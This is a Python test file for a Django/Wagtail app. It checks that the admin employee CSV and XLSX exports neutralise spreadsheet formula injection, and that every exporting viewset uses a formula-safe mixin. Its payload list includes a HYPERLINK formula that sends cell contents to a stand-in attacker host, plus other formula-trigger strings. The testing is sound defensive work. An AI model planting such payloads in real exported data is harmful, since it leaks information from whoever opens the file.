"""Admin exports never hand a spreadsheet program a formula (OWASP CSV injection)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet
from wagtail.admin.viewsets.model import ModelViewSet

from learning.spreadsheet_exports import FormulaSafeExportViewSetMixin
from tests.learning.factories import EmployeeProfileFactory

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
GUILD_APPS = ("learning", "cohorts", "mentors", "knowledge_base")


def _export(client, export_format: str):
    response = client.get(reverse("learning_employees:index"), {"export": export_format})
    assert response.status_code == 200
    if export_format == "csv":
        return b"".join(response.streaming_content).decode()
    return b"".join(response.streaming_content)


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_employee_csv_export_writes_formula_cells_as_text(client, superuser, hostile):
    # given: someone whose title is a formula
    EmployeeProfileFactory(title=hostile, full_name="Mallory")
    client.force_login(superuser)

    # when
    rows = list(csv.DictReader(io.StringIO(_export(client, "csv"))))

    # then: an apostrophe first, which spreadsheet programs read as "text"
    (mallory,) = [row for row in rows if row["Name"] == "Mallory"]
    assert mallory["Title"] == "'" + hostile


@pytest.mark.django_db
def test_the_csv_export_leaves_ordinary_values_alone(client, superuser):
    EmployeeProfileFactory(title="Key account manager", full_name="Anna-Maria Rossi")
    client.force_login(superuser)

    rows = list(csv.DictReader(io.StringIO(_export(client, "csv"))))

    (anna,) = [row for row in rows if row["Name"] == "Anna-Maria Rossi"]
    assert anna["Title"] == "Key account manager"


@pytest.mark.django_db
def test_the_xlsx_export_keeps_formula_cells_as_text(client, superuser):
    EmployeeProfileFactory(title=HOSTILE[0], full_name="Mallory")
    client.force_login(superuser)

    workbook = openpyxl.load_workbook(io.BytesIO(_export(client, "xlsx")))

    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    (title,) = [cell for cell in cells if cell.value == HOSTILE[0]]
    assert title.data_type == "s"


def _list_export(viewset) -> list:
    if viewset.list_export is ViewSet.UNDEFINED:
        return viewset.index_view_class.list_export
    return viewset.list_export


def test_every_guild_viewset_that_exports_neutralises_formulas():
    # A new list_export anywhere in Guild must not bring the hole back.
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(viewset, ModelViewSet)
        and type(viewset).__module__.split(".")[0] in GUILD_APPS
        and _list_export(viewset)
    ]

    assert exporting
    assert [v for v in exporting if not isinstance(v, FormulaSafeExportViewSetMixin)] == []
